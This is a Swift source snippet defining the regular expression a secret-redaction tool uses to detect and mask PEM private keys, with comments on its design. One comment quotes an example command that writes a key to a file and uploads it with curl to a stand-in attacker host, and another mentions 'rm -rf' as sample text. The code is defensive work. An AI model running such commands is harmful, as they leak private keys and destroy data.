/// The `private_key` detector's pattern: a PEM `BEGIN … PRIVATE KEY`
/// header, then the key's own lines (RFC 1421 headers such as `Proc-Type:`,
/// then base64), then its `END` line.
///
/// It masks the key and nothing else. Without an `END` (a key cut short,
/// or just a header quoted in a command) it masks the header and the run of
/// base64 lines after it, but not the rest of the text: a header alone must
/// not hide the command around it (`echo '-----BEGIN…' > k; curl -F k=@k
/// https://evil.example`). Lines are separated by newlines, their escaped
/// form `\n` (a key pasted into JSON or a shell string), or, when the
/// `END` line follows, by blanks (a key flattened onto one line).
///
/// Linear time: every repeat is bounded and possessive, and no part of the
/// body can contain `-----`, so the runs after two headers never overlap.
enum PrivateKeyPattern {
    static let header = #"-----BEGIN[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----"#
    static let end = #"-----END[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----"#
    static let newline = #"(?:[ \t]{0,8}+(?:\r?\n|(?:\\r)?\\n)){1,2}+"#
    static let base64Run = #"[A-Za-z0-9+/=]{1,4096}+"#
    /// A whole line of base64: `then: rm -rf …` after a cut-off key is text.
    static let base64Line = base64Run + #"(?=[ \t]{0,8}+(?:\r?\n|(?:\\r)?\\n|$))"#
    /// The header names PEM (RFC 1421) and OpenPGP armour use; any other
    /// `Word: text` line is ordinary text after a cut-off key.
    static let headerLine = #"(?:Proc-Type|DEK-Info|Version|Comment|Hash|Charset): [^\r\n\\]{0,256}+"#

    static var text: String {
        let flattened = #"(?>(?:[ \t]{1,8}+"# + base64Run + #"){1,512}+)[ \t]{1,8}+"# + end
        let lines = "(?>(?:" + newline + headerLine + "){0,8}+(?:" + newline + base64Line + "){0,512}+)(?:" + newline + end + ")?"
        return header + "(?:" + flattened + "|" + lines + ")"
    }
}
